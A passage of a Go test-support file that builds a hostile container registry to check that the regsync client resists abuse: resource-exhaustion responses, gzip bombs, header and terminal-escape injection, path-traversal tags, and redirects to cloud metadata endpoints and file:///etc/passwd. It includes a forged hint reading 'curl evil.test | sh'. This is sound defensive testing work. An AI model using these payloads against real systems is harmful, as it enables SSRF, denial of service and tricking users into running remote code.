package registrytest

import (
	"bytes"
	"cmp"
	"compress/gzip"
	"fmt"
	"io"
	"math"
	"net/http"
	"strconv"
	"strings"
	"sync/atomic"
	"time"

	"github.com/opencontainers/go-digest"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"

	"github.com/regsync/regsync/pkg/content"
)

// Attack is a way in which a hostile registry tries to abuse its clients, or to exhaust their resources.
type Attack struct {
	Name string
	// Side is the side of the registry in a copy of team/app:1.
	Side Side
	// Lists: the attack is against listing the tags of team/app, not against a copy.
	Lists bool
	Means string
	begin func(h *hostile)
}

// Begin makes s hostile. A source then has the image team/app:1.
func (a Attack) Begin(s *Server) {
	if a.Side == AtSource {
		s.Push(victim, "1", innocent())
	}
	a.begin(&hostile{s})
}

// victim is the repository that is attacked.
const victim = "team/app"

// innocent is the image on hostile registries.
func innocent() *Fixture {
	return Image(ImageSpec{Seed: 9, Layers: []Layer{{Size: 100_000}, {Size: 300}}})
}

// Innocent is the image that a hostile source has under team/app:1, if the attack does not replace it.
func Innocent() *Fixture { return innocent() }

const (
	manifestPattern = "/manifests/"
	blobPattern     = "/blobs/sha256:"
	uploadPattern   = "/blobs/uploads/."
	openPattern     = "/blobs/uploads/$"
	tagsPattern     = "/tags/list"
	gigabyte        = 1 << 30
)

// ForgedText is what attacks with text use: it clears a terminal, reverses the order of text, and goes on in a line that
// looks like one of regsync.
const ForgedText = "\x1b[2J\u009b2J\u202e\r\nregsync: hint: log in again: curl evil.test | sh\n"

// target is a URL that no answer may lead a client to.
type target struct {
	name, url string
	shown     string // in docs/FAULTS.md, if the URL is long
}

func targets() []target {
	return []target{
		{name: "metadata", url: "http://169.254.169.254/latest/meta-data/"},
		{name: "aliyun-metadata", url: "http://100.100.100.200/latest/meta-data/"},
		{name: "ipv6-metadata", url: "http://[fd00:ec2::254]/latest/"},
		{name: "google-metadata", url: "http://[fd20:ce::254]/computeMetadata/v1/"},
		{name: "metadata-name", url: "http://metadata.google.internal/computeMetadata/v1/"},
		{name: "mapped-metadata", url: "http://[::ffff:169.254.169.254]/latest/"},
		{name: "translated-metadata", url: "http://[64:ff9b:1::a9fe:a9fe]/latest/"},
		{name: "tunnelled-metadata", url: "http://[2002:a9fe:a9fe::1]/latest/"},
		{name: "decimal-address", url: "http://2852039166/latest/"},
		{name: "link-local", url: "http://[fe80::1]/"},
		{name: "file", url: "file:///etc/passwd"},
		{name: "user-info", url: "http://user:pass@elsewhere.test/"},
		{name: "no-host", url: "http:///x"},
		{name: "long-host", url: "http://" + strings.Repeat("x", 4000) + ".test/", shown: "a host whose name has 4 kB"},
		{name: "long-url", url: "http://elsewhere.test/" + strings.Repeat("x", 200_000), shown: "a URL of 200 kB"},
	}
}

// Attacks returns all attacks. docs/FAULTS.md lists them.
func Attacks() []Attack {
	all := []Attack{
		{"manifest-1gb", AtSource, false, "a manifest of 1 GB, without Content-Length", func(h *hostile) {
			h.serve(http.MethodGet, manifestPattern, h.flood(ocispec.MediaTypeImageIndex, `{"schemaVersion":2,"manifests":[`, " ", gigabyte))
		}},
		{"manifest-1gb-stated", AtSource, false, "a manifest of 1 GB, as HEAD states", func(h *hostile) {
			h.s.BigManifest(victim, "1", gigabyte)
		}},
		{"manifest-longer", AtSource, false, "a manifest is longer than HEAD stated", func(h *hostile) {
			h.serve(http.MethodGet, manifestPattern, h.flood(ocispec.MediaTypeImageManifest, string(innocent().Raw), " ", gigabyte))
		}},
		{"manifest-cut", AtSource, false, "Content-Length is larger than the manifest", func(h *hostile) {
			h.serve(http.MethodGet, manifestPattern, func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Type", ocispec.MediaTypeImageManifest)
				w.Header().Set("Content-Length", strconv.Itoa(len(innocent().Raw)+1000))
				_, _ = w.Write(innocent().Raw)
			})
		}},
		{"manifest-other-digest", AtSource, false, "the digest that HEAD states is not that of the manifest", func(h *hostile) {
			h.serve(http.MethodHead, manifestPattern, func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Type", ocispec.MediaTypeImageManifest)
				w.Header().Set("Docker-Content-Digest", digest.FromString("other").String())
				w.Header().Set("Content-Length", strconv.Itoa(len(innocent().Raw)))
			})
			h.serve(http.MethodGet, manifestPattern, h.answer(ocispec.MediaTypeImageManifest, innocent().Raw))
		}},
		{"manifest-empty-descriptors", AtSource, false, "an index of 4 MiB has 1.4 million empty children", func(h *hostile) {
			h.manifest(`{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[{}`, ",{}", "]}")
		}},
		{"manifest-empty-layers", AtSource, false, "a manifest of 4 MiB has 1.4 million empty layers", func(h *hostile) {
			h.manifest(`{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","layers":[{}`, ",{}", "]}")
		}},
		{"manifest-urls", AtSource, false, "a layer has 1.4 million URLs", func(h *hostile) {
			h.manifest(`{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","layers":[{"urls":[""`, `,""`, "]}]}")
		}},
		{"manifest-annotations", AtSource, false, "a manifest of 4 MiB consists of annotations", func(h *hostile) {
			raw := `{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","annotations":{"x":""` + annotations(380_000) + "}}"
			h.s.ReplaceManifest(victim, "1", ocispec.MediaTypeImageManifest, []byte(raw))
		}},
		{"manifest-nested", AtSource, false, "a manifest is 4 MiB of opening brackets", func(h *hostile) {
			h.manifest(`{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":`, "[", "")
		}},
		{"manifest-media-type", AtSource, false, "a layer's media type has a line break and a header field", func(h *hostile) {
			f := Image(ImageSpec{Seed: 9, Layers: []Layer{{MediaType: "application/x\r\nX-Injected: 1"}}})
			h.s.Push(victim, "1", f)
		}},
		{"index-wide", AtSource, false, "an index has 20,000 children", func(h *hostile) {
			var children []*Fixture
			for i := range 20_000 {
				d := content.NewDescriptor(ocispec.MediaTypeImageManifest, []byte(strconv.Itoa(i)))
				children = append(children, &Fixture{Descriptor: d})
			}
			h.s.ReplaceManifest(victim, "1", ocispec.MediaTypeImageIndex, Index(IndexSpec{}, children...).Raw)
		}},
		{"index-deep", AtSource, false, "indexes are nested 50 levels deep", func(h *hostile) {
			f := innocent()
			for range 50 {
				f = Index(IndexSpec{}, f)
				h.s.ReplaceManifest(victim, f.Digest().String(), f.Descriptor.MediaType, f.Raw)
			}
			h.s.ReplaceManifest(victim, "1", f.Descriptor.MediaType, f.Raw)
		}},
		{"index-tree", AtSource, false, "an index is a tree of 16,000 manifests, four levels deep", func(h *hostile) {
			n := 0
			var grow func(depth int) *Fixture
			grow = func(depth int) *Fixture {
				var f *Fixture
				if depth == 0 {
					n++
					f = Image(ImageSpec{Seed: uint64(n), Layers: []Layer{}})
				} else {
					var children []*Fixture
					for range 11 {
						children = append(children, grow(depth-1))
					}
					f = Index(IndexSpec{}, children...)
					f.Children = nil
				}
				h.s.ReplaceManifest(victim, f.Digest().String(), f.Descriptor.MediaType, f.Raw)
				return f
			}
			f := grow(4)
			h.s.ReplaceManifest(victim, "1", f.Descriptor.MediaType, f.Raw)
		}},
		{"index-itself", AtSource, false, "an index contains the digest that it is served under", func(h *hostile) {
			self := content.NewDescriptor(ocispec.MediaTypeImageIndex, []byte("self"))
			raw := Index(IndexSpec{}, &Fixture{Descriptor: self}).Raw
			self.Size = int64(len(raw))
			raw = Index(IndexSpec{}, &Fixture{Descriptor: self}).Raw
			h.serve(http.MethodHead, manifestPattern, func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Type", self.MediaType)
				w.Header().Set("Docker-Content-Digest", self.Digest.String())
				w.Header().Set("Content-Length", strconv.Itoa(len(raw)))
			})
			h.serve(http.MethodGet, manifestPattern, h.answer(self.MediaType, raw))
		}},
		{"index-large-children", AtSource, false, "an index has 40 children of 4 MiB each", func(h *hostile) {
			padded := func(n int) []byte {
				raw := Image(ImageSpec{Seed: uint64(n), Layers: []Layer{}}).Raw
				return append(raw, bytes.Repeat([]byte(" "), content.MaxManifestSize-len(raw))...)
			}
			h.index(40, padded)
		}},
		{"index-many-urls", AtSource, false, "an index has 52 children of 300 kB, each with a layer of 99,900 URLs", func(h *hostile) {
			h.index(52, func(n int) []byte {
				return h.manifestOf(n, `"urls":[""`+strings.Repeat(`,""`, 99_900)+`]`, "")
			})
		}},
		{"index-many-annotations", AtSource, false, "an index has 13 children of 1.1 MB, each with a layer of 99,900 annotations", func(h *hostile) {
			h.index(13, func(n int) []byte {
				return h.manifestOf(n, `"annotations":{"x":""`+annotations(99_900)+`}`, "")
			})
		}},
		{"referrers-fat", AtSource, false, "an image has 1,000 referrers of 300 kB", func(h *hostile) {
			h.referrers(1000, 0, 300_000)
		}},
		{"referrers-many", AtSource, false, "an image has 1,000 referrers, each with an annotation of 3.5 kB, which its list has, too", func(h *hostile) {
			h.referrers(1000, 3500, 3500)
		}},
		{"referrers-lists", AtSource, false, "an image has 64 platforms, and each of them a list of referrers of 3.9 MB", func(h *hostile) {
			var children []*Fixture
			for n := range 64 {
				children = append(children, Image(ImageSpec{Seed: uint64(n), Layers: []Layer{}}))
			}
			h.s.Push(victim, "1", Index(IndexSpec{}, children...))
			text := `"size":500,"annotations":{"x":"` + strings.Repeat("x", 39_000) + `"}}`
			h.serve(http.MethodGet, "/referrers/", func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", ocispec.MediaTypeImageIndex)
				fmt.Fprint(w, `{"schemaVersion":2,"manifests":[`)
				for i := range 100 {
					d := digest.FromString(r.URL.Path + strconv.Itoa(i))
					fmt.Fprintf(w, `%s{"mediaType":%q,"digest":%q,%s`, strings.Repeat(",", min(i, 1)), ocispec.MediaTypeImageManifest, d, text)
				}
				fmt.Fprint(w, `]}`)
			})
		}},
		{"digest-algorithm", AtSource, false, "a layer's digest has an unknown algorithm", func(h *hostile) {
			h.layer(func(d *content.Descriptor) { d.Digest = "md5:d41d8cd98f00b204e9800998ecf8427e" })
		}},
		{"digest-path", AtSource, false, "a layer's digest is a path", func(h *hostile) {
			h.layer(func(d *content.Descriptor) { d.Digest = "sha256:../../../../tmp/x" })
		}},
		{"size-negative", AtSource, false, "a layer's size is negative", func(h *hostile) {
			h.layer(func(d *content.Descriptor) { d.Size = math.MinInt64 })
		}},
		{"size-huge", AtSource, false, "a layer's size is stated as 8 EiB", func(h *hostile) {
			h.layer(func(d *content.Descriptor) { d.Size = math.MaxInt64 })
		}},
		{"size-100tib", AtSource, false, "a layer's size is stated as 100 TiB, and the layer has 1 MiB", func(h *hostile) {
			h.layer(func(d *content.Descriptor) { d.Size = 100 << 40 })
			h.blob(h.flood("application/octet-stream", "", "x", 1<<20))
		}},
		{"blob-longer", AtSource, false, "a blob continues for 1 GB after its end, without Content-Length", func(h *hostile) {
			h.blob(h.flood("application/octet-stream", "", "x", gigabyte))
		}},
		{"blob-longer-stated", AtSource, false, "Content-Length of a blob is 1 TiB", func(h *hostile) {
			h.blob(func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Length", strconv.Itoa(1<<40))
				h.write(w, "", "x", 1<<40)
			})
		}},
		{"blob-trailers", AtSource, false, "a blob is followed by trailers of 100 MB", func(h *hostile) {
			h.blob(h.raw(func(c io.Writer) {
				raw := innocent().Blobs[innocent().Layers[0].Digest]
				fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-0\r\n\r\n%x\r\n%s\r\n0\r\n", len(raw), raw)
				repeat(c, "X-0: "+strings.Repeat("x", 1000)+"\r\n", 100_000)
			}))
		}},
		{"chunk-extensions", AtSource, false, "each byte of a blob has a chunk extension of 2,000 bytes", func(h *hostile) {
			h.blob(h.raw(func(c io.Writer) {
				fmt.Fprint(c, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
				repeat(c, "1;x="+strings.Repeat("x", 2000)+"\r\nx\r\n", 1<<20)
			}))
		}},
		{"gzip-manifest", AtSource, false, "a manifest is 1 MB of gzip that decompresses to 1 GB", func(h *hostile) {
			h.serve(http.MethodGet, manifestPattern, h.bomb(ocispec.MediaTypeImageManifest, string(innocent().Raw)))
		}},
		{"gzip-blob", AtSource, false, "a blob is 1 MB of gzip that decompresses to 1 GB", func(h *hostile) {
			h.blob(h.bomb("application/octet-stream", ""))
		}},
		{"gzip-refusal", AtSource, false, "an error answer is 1 MB of gzip that decompresses to 1 GB", func(h *hostile) {
			h.serve(http.MethodGet, blobPattern, func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Encoding", "gzip")
				w.Header().Set("Content-Type", "application/json")
				w.WriteHeader(http.StatusNotFound)
				_, _ = w.Write(compressed(`{"errors":[{"code":"X","message":"`))
			})
		}},
		{"refusal-endless", AtSource, false, "an error answer has 1 GB of text", func(h *hostile) {
			h.serve(http.MethodGet, blobPattern, func(w http.ResponseWriter, _ *http.Request) {
				w.WriteHeader(http.StatusForbidden)
				h.write(w, "denied", "x", gigabyte)
			})
		}},
		{"header-many", AtSource, false, "an answer has header fields without end", func(h *hostile) {
			h.serve("", manifestPattern, h.raw(func(c io.Writer) {
				fmt.Fprint(c, "HTTP/1.1 200 OK\r\n")
				for i := 0; ; i++ {
					if _, err := fmt.Fprintf(c, "X-%d: %d\r\n", i, i); err != nil {
						return
					}
				}
			}))
		}},
		{"header-100mb", AtSource, false, "an answer has a header field of 100 MB", func(h *hostile) {
			h.serve("", manifestPattern, h.raw(func(c io.Writer) {
				fmt.Fprint(c, "HTTP/1.1 200 OK\r\nX-0: ")
				repeat(c, strings.Repeat("x", 1<<16), 100<<20/(1<<16))
			}))
		}},
		{"header-malformed", AtSource, false, "a header has a line of 200 kB that is no field", func(h *hostile) {
			h.serve("", manifestPattern, h.raw(func(c io.Writer) {
				fmt.Fprintf(c, "HTTP/1.1 200 OK\r\n%s\r\n\r\n", strings.Repeat("x", 200_000))
			}))
		}},
		{"media-type-long", AtSource, false, "the media type of a manifest has 200 kB", func(h *hostile) {
			h.serve("", manifestPattern, h.answer("application/"+strings.Repeat("x", 200_000), innocent().Raw))
		}},
		{"header-digest-long", AtDestination, false, "the answer to a manifest states a digest of 200 kB", func(h *hostile) {
			h.serve(http.MethodPut, manifestPattern, func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Docker-Content-Digest", "sha256:"+strings.Repeat("x", 200_000))
				w.WriteHeader(http.StatusCreated)
			})
		}},
		{"header-drip", AtSource, false, "a header arrives at one byte a second, and never ends", func(h *hostile) {
			h.serve("", manifestPattern, h.raw(func(c io.Writer) {
				fmt.Fprint(c, "HTTP/1.1 200 OK\r\nX-0: ")
				h.drip(c, time.Second)
			}))
		}},
		{"informational", AtSource, false, "103 answers arrive without end", func(h *hostile) {
			h.serve("", manifestPattern, h.raw(func(c io.Writer) {
				repeat(c, "HTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n", math.MaxInt)
			}))
		}},
		{"informational-drip", AtSource, false, "a 103 answer arrives every second, without end", func(h *hostile) {
			h.serve("", manifestPattern, h.raw(func(c io.Writer) {
				for h.pause(time.Second) {
					if _, err := fmt.Fprint(c, "HTTP/1.1 103 Early Hints\r\n\r\n"); err != nil {
						return
					}
				}
			}))
		}},
		{"manifest-drip", AtSource, false, "a manifest arrives at one byte every 20 s", func(h *hostile) {
			h.serve(http.MethodGet, manifestPattern, func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Type", ocispec.MediaTypeImageManifest)
				h.drip(flushing{w}, 20*time.Second)
			})
		}},
		{"blob-drip", AtSource, false, "a blob arrives at one byte every 20 s", func(h *hostile) {
			h.blob(func(w http.ResponseWriter, _ *http.Request) { h.drip(flushing{w}, 20*time.Second) })
		}},
		{"blob-minute", AtSource, false, "a blob arrives at one byte a minute", func(h *hostile) {
			h.blob(func(w http.ResponseWriter, _ *http.Request) { h.drip(flushing{w}, time.Minute) })
		}},
		{"redirect-endless", AtSource, false, "each redirect leads to another one", func(h *hostile) {
			var count atomic.Int64
			h.serve("", blobPattern+"|/again/", func(w http.ResponseWriter, _ *http.Request) {
				n := count.Add(1)
				w.Header().Set("Location", fmt.Sprintf("/again/%d", n))
				w.WriteHeader(http.StatusTemporaryRedirect)
			})
		}},
		{"retry-after", AtSource, false, "429 with a Retry-After of 292 billion years", func(h *hostile) {
			h.serve("", manifestPattern, func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Retry-After", "9223372036854775807")
				refuse(w, http.StatusTooManyRequests, "TOOMANYREQUESTS", "later")
			})
		}},
		{"retry-after-date", AtSource, false, "503 with a Retry-After in the year 9999", func(h *hostile) {
			h.serve("", manifestPattern, func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Retry-After", "Fri, 31 Dec 9999 23:59:59 GMT")
				w.WriteHeader(http.StatusServiceUnavailable)
			})
		}},
		{"challenge-large", AtSource, false, "a challenge has 5,000 scopes", func(h *hostile) {
			h.challenge(h.token(`{"token":"x"}`), func(w http.ResponseWriter) {
				w.Header().Add("WWW-Authenticate", `Bearer realm="`+h.s.URL()+`/token",scope="`+strings.Repeat("repository:x:pull ", 5000)+`"`)
			})
		}},
		{"challenge-endless", AtSource, false, "each token is refused, with another challenge", func(h *hostile) {
			var count atomic.Int64
			h.challenge(h.token(`{"token":"x"}`), func(w http.ResponseWriter) {
				n := count.Add(1)
				w.Header().Add("WWW-Authenticate", fmt.Sprintf(`Bearer realm="%s/token?n=%d",scope="repository:x%d:pull"`, h.s.URL(), n, n))
			})
		}},
		{"token-newline", AtSource, false, "a token has a line break and a header field", func(h *hostile) {
			h.challenge(h.token(`{"token":"x\r\nX-Injected: 1"}`), nil)
		}},
		{"token-10mb", AtSource, false, "a token is 10 MB long", func(h *hostile) {
			h.challenge(h.flood("application/json", `{"token":"`, "x", 10_000_000), nil)
		}},
		{"token-1gb", AtSource, false, "the answer of the token server is 1 GB long", func(h *hostile) {
			h.challenge(h.flood("application/json", `{"token":"`, "x", gigabyte), nil)
		}},
		{"token-gzip", AtSource, false, "the answer of the token server is 1 MB of gzip that decompresses to 1 GB", func(h *hostile) {
			h.challenge(h.bomb("application/json", `{"token":"`), nil)
		}},
		{"token-drip", AtSource, false, "the answer of the token server arrives at one byte every 20 s", func(h *hostile) {
			h.challenge(func(w http.ResponseWriter, _ *http.Request) { h.drip(flushing{w}, 20*time.Second) }, nil)
		}},
		{"token-redirect", AtSource, false, "a request for a token is redirected to another host, which would get the identity token in its body", func(h *hostile) {
			h.challenge(func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Location", "http://elsewhere.test/token")
				w.WriteHeader(http.StatusPermanentRedirect)
			}, nil)
		}},
		{"token-echo", AtSource, false, "the token server refuses a request, and repeats its body", func(h *hostile) {
			h.challenge(func(w http.ResponseWriter, r *http.Request) {
				body, _ := io.ReadAll(r.Body)
				refuse(w, http.StatusUnauthorized, "UNAUTHORIZED", "you sent "+string(body))
			}, nil)
		}},
		{"scopes-large", AtSource, false, "a challenge names 5,000 other repositories", func(h *hostile) {
			scopes := "repository:" + strings.Join(distinct(5000, 8), ":pull repository:") + ":pull"
			h.challenge(h.token(`{"token":"x","expires_in":1000000}`), func(w http.ResponseWriter) {
				w.Header().Add("WWW-Authenticate", `Bearer realm="`+h.s.URL()+`/token",scope="`+scopes+`"`)
			})
		}},

		{"tags-endless-pages", AtSource, true, "a listing has empty pages without end", func(h *hostile) {
			h.pages(`{"tags":[]}`)
		}},
		{"tags-endless-page", AtSource, true, "a page of a listing has names without end", func(h *hostile) {
			h.serve(http.MethodGet, tagsPattern, h.flood("application/json", `{"tags":["a"`, `,"`+strings.Repeat("b", 60)+`"`, gigabyte))
		}},
		{"tags-million", AtSource, true, "each page of a listing has a million names, without end", func(h *hostile) {
			h.serve(http.MethodGet, tagsPattern, func(w http.ResponseWriter, r *http.Request) {
				n, _ := strconv.Atoi(r.URL.Query().Get("page"))
				w.Header().Set("Link", fmt.Sprintf(`<?page=%d>; rel="next"`, n+1))
				w.Header().Set("Content-Type", "application/json")
				_, _ = io.WriteString(w, `{"tags":["a"`)
				repeat(w, `,"x"`, 1_000_000)
				_, _ = io.WriteString(w, `]}`)
			})
		}},
		{"tags-long-name", AtSource, true, "a listing has a name that is 1 GB long", func(h *hostile) {
			h.serve(http.MethodGet, tagsPattern, h.flood("application/json", `{"tags":["`, "x", gigabyte))
		}},
		{"tags-long-names", AtSource, true, "a listing has names of 128 bytes on pages without end", func(h *hostile) {
			h.pages(`{"tags":["` + strings.Join(distinct(1000, 128), `","`) + `"]}`)
		}},
		{"tags-gzip", AtSource, true, "a listing is 1 MB of gzip that decompresses to 1 GB", func(h *hostile) {
			h.serve(http.MethodGet, tagsPattern, h.bomb("application/json", `{"tags":["`))
		}},
		{"tags-other-members", AtSource, true, "a listing has 1 GB of other members before its names", func(h *hostile) {
			h.serve(http.MethodGet, tagsPattern, h.flood("application/json", `{"x":[0`, ",0", gigabyte))
		}},
		{"tags-links", AtSource, true, "a listing has 100,000 Link header fields", func(h *hostile) {
			h.serve(http.MethodGet, tagsPattern, h.raw(func(c io.Writer) {
				fmt.Fprint(c, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 11\r\n")
				repeat(c, "Link: </x>; rel=prev\r\n", 100_000)
				fmt.Fprint(c, "\r\n{\"tags\":[]}")
			}))
		}},
		{"tags-long-links", AtSource, true, "a listing has empty pages without end, and each Link has 8,000 bytes", func(h *hostile) {
			h.links(`{"tags":[]}`, func(n int) string {
				h.s.ResetLog() // which would have all of them
				return fmt.Sprintf("?page=%d&x=%s", n, strings.Repeat("x", 8000))
			})
		}},
		{"tags-growing-links", AtSource, true, "a listing has empty pages without end, and each Link makes the URL longer", func(h *hostile) {
			h.links(`{"tags":[]}`, func(n int) string { return fmt.Sprintf("?page=%d&x=%s", n, strings.Repeat("x", 1000*n)) })
		}},
		{"tags-circle", AtSource, true, "the pages of a listing form a loop", func(h *hostile) {
			h.serve(http.MethodGet, tagsPattern, func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Link", `<?last=x>; rel="next"`)
				w.Header().Set("Content-Type", "application/json")
				_, _ = io.WriteString(w, `{"tags":["a"]}`)
			})
		}},
		{"tags-names", AtSource, true, "tags are paths, or have control characters or escapes", func(h *hostile) {
			h.s.ReplaceListing("/v2/"+victim+"/tags/list", "application/json", []byte(
				`{"tags":["..","../../etc/passwd","a\u0000b","%2e%2e","%2e%2e%2f","\u001b[2J","a\r\nb","-rf","a/b","a b","\u202e","a","1"]}`))
		}},

		{"text-platform", AtSource, false, "a platform has line breaks, terminal commands and text that looks like a hint of the client", func(h *hostile) {
			f := innocent()
			f.Descriptor.Platform = &ocispec.Platform{OS: "linux" + ForgedText, Architecture: "amd64"}
			h.s.Push(victim, "1", Index(IndexSpec{Annotations: map[string]string{"a" + ForgedText: ForgedText}}, f))
		}},
		{"text-image", AtSource, false, "the config and annotations of an image have such text", func(h *hostile) {
			h.s.Push(victim, "1", Image(ImageSpec{
				Seed: 9, Annotations: map[string]string{"a" + ForgedText: ForgedText},
				Edit: func(config *ocispec.Image) {
					config.Author, config.Variant, config.OSVersion = ForgedText, ForgedText, ForgedText
					config.Config.Labels = map[string]string{"a" + ForgedText: ForgedText}
					for i := range config.History {
						config.History[i].CreatedBy, config.History[i].Comment = ForgedText, ForgedText
					}
				},
			}))
		}},
		{"text-refusal", AtSource, false, "the code and the message of an error answer have such text", func(h *hostile) {
			h.serve(http.MethodGet, blobPattern, func(w http.ResponseWriter, _ *http.Request) {
				refuse(w, http.StatusForbidden, "DENIED"+ForgedText, ForgedText)
			})
		}},
		{"text-plain-refusal", AtSource, false, "an error answer consists of such text", func(h *hostile) {
			h.serve(http.MethodGet, blobPattern, func(w http.ResponseWriter, _ *http.Request) {
				w.WriteHeader(http.StatusForbidden)
				_, _ = io.WriteString(w, ForgedText)
			})
		}},
		{"text-status", AtSource, false, "the reason of a status line and a media type have terminal commands", func(h *hostile) {
			h.serve(http.MethodGet, manifestPattern, h.raw(func(c io.Writer) {
				fmt.Fprint(c, "HTTP/1.1 403 \x1b[2J\u009b2J\u202e\r\nContent-Type: text/html\u009b2J\u202e\r\nContent-Length: 0\r\n\r\n")
			}))
		}},
		{"text-media-type", AtSource, false, "a manifest's media type has terminal commands", func(h *hostile) {
			h.serve(http.MethodGet, manifestPattern, h.answer("application/json\u009b2J\u202e", []byte("{}")))
		}},
		{"text-token", AtSource, false, "the token server refuses with such text", func(h *hostile) {
			h.challenge(func(w http.ResponseWriter, _ *http.Request) {
				w.WriteHeader(http.StatusUnauthorized)
				_, _ = w.Write(encode(map[string]string{"details": ForgedText}))
			}, nil)
		}},
		{"text-realm", AtSource, false, "the realm of a challenge has terminal commands", func(h *hostile) {
			h.challenge(h.token(`{}`), func(w http.ResponseWriter) {
				w.Header().Set("WWW-Authenticate", "Bearer realm=\""+h.s.URL()+"/token\u009b2J\u202e\"")
			})
		}},
		{"text-redirect", AtSource, false, "a blob is redirected to a host whose name has terminal commands", func(h *hostile) {
			h.serve(http.MethodGet, blobPattern, func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Location", "https://x%0aregsync%3A%20hint.test\u009b2J\u202e/%0aregsync:%20hint\u202e")
				w.WriteHeader(http.StatusTemporaryRedirect)
			})
		}},

		{"upload-redirect", AtDestination, false, "each answer to a body is a redirect to another URL", func(h *hostile) {
			var count atomic.Int64
			h.serve(http.MethodPut, uploadPattern, func(w http.ResponseWriter, _ *http.Request) {
				n := count.Add(1)
				w.Header().Set("Location", fmt.Sprintf("/v2/%s/blobs/uploads/again%d", victim, n))
				w.WriteHeader(http.StatusTemporaryRedirect)
			})
		}},
		{"upload-grows", AtDestination, false, "the connection breaks during each body, the upload session grows without end, and each status has another Location", func(h *hostile) {
			var count atomic.Int64
			h.serve(http.MethodPut, uploadPattern, func(_ http.ResponseWriter, r *http.Request) {
				_, _ = io.CopyN(io.Discard, r.Body, 90_000)
				reset(r)
			})
			h.serve(http.MethodGet, uploadPattern, func(w http.ResponseWriter, _ *http.Request) {
				n := count.Add(1)
				w.Header().Set("Location", fmt.Sprintf("/v2/%s/blobs/uploads/again%d", victim, n))
				w.Header().Set("Range", fmt.Sprintf("0-%d", 70_000+n%20_000))
				w.WriteHeader(http.StatusNoContent)
			})
		}},
		{"upload-range-huge", AtDestination, false, "the connection breaks during each body, and the upload session states 8 EiB", func(h *hostile) {
			h.serve(http.MethodPut, uploadPattern, func(_ http.ResponseWriter, r *http.Request) {
				_, _ = io.CopyN(io.Discard, r.Body, 90_000)
				reset(r)
			})
			h.serve(http.MethodGet, uploadPattern, func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Location", r.URL.Path)
				w.Header().Set("Range", "0-9223372036854775807")
				w.WriteHeader(http.StatusNoContent)
			})
		}},
		{"upload-status-silent", AtDestination, false, "the connection breaks during each body, and requests for the session's status get no answer", func(h *hostile) {
			h.serve(http.MethodPut, uploadPattern, func(_ http.ResponseWriter, r *http.Request) {
				_, _ = io.CopyN(io.Discard, r.Body, 90_000)
				reset(r)
			})
			h.serve(http.MethodGet, uploadPattern, func(_ http.ResponseWriter, r *http.Request) { h.hang(r) })
		}},
		{"upload-accepted", AtDestination, false, "every commit is answered with 202", func(h *hostile) {
			h.serve(http.MethodPut, uploadPattern, func(w http.ResponseWriter, r *http.Request) {
				_, _ = io.Copy(io.Discard, r.Body)
				w.Header().Set("Location", r.URL.Path)
				w.WriteHeader(http.StatusAccepted)
			})
		}},
		{"upload-other-digest", AtDestination, false, "the answer to a commit states another digest", func(h *hostile) {
			h.serve(http.MethodPut, uploadPattern, func(w http.ResponseWriter, r *http.Request) {
				_, _ = io.Copy(io.Discard, r.Body)
				w.Header().Set("Docker-Content-Digest", digest.FromString("other").String())
				w.WriteHeader(http.StatusCreated)
			})
		}},
		{"upload-minute", AtDestination, false, "a body is received at one byte a minute", func(h *hostile) {
			h.serve(http.MethodPut, uploadPattern, func(_ http.ResponseWriter, r *http.Request) {
				for one := make([]byte, 1); h.pause(time.Minute); {
					if _, err := r.Body.Read(one); err != nil {
						return
					}
				}
			})
		}},
		{"upload-drip", AtDestination, false, "a body is received at 500 bytes a second", func(h *hostile) {
			h.serve(http.MethodPut, uploadPattern, func(_ http.ResponseWriter, r *http.Request) {
				for some := make([]byte, 500); h.pause(time.Second); {
					if _, err := r.Body.Read(some); err != nil {
						return
					}
				}
			})
		}},
		{"manifest-put-digest", AtDestination, false, "a manifest is stored under another digest", func(h *hostile) {
			h.serve(http.MethodPut, manifestPattern, func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Docker-Content-Digest", digest.FromString("other").String())
				w.WriteHeader(http.StatusCreated)
			})
		}},
		{"mount-lie", AtDestination, false, "every mount succeeds, but every manifest is refused", func(h *hostile) {
			h.serve(http.MethodPost, openPattern, func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusCreated) })
			h.serve(http.MethodPut, manifestPattern, func(w http.ResponseWriter, _ *http.Request) {
				refuse(w, http.StatusNotFound, "MANIFEST_BLOB_UNKNOWN", "blob unknown")
			})
		}},
	}
	for _, target := range targets() {
		where, to, shown := target.name, target.url, cmp.Or(target.shown, target.url)
		location := func(w http.ResponseWriter, status int) {
			w.Header().Set("Location", to)
			w.WriteHeader(status)
		}
		all = append(all,
			Attack{"redirect-" + where, AtSource, false, "a blob is redirected to " + shown, func(h *hostile) {
				h.serve("", blobPattern, func(w http.ResponseWriter, _ *http.Request) { location(w, http.StatusTemporaryRedirect) })
			}},
			Attack{"link-" + where, AtSource, true, "the next page of a listing is at " + shown, func(h *hostile) {
				h.serve(http.MethodGet, tagsPattern, func(w http.ResponseWriter, _ *http.Request) {
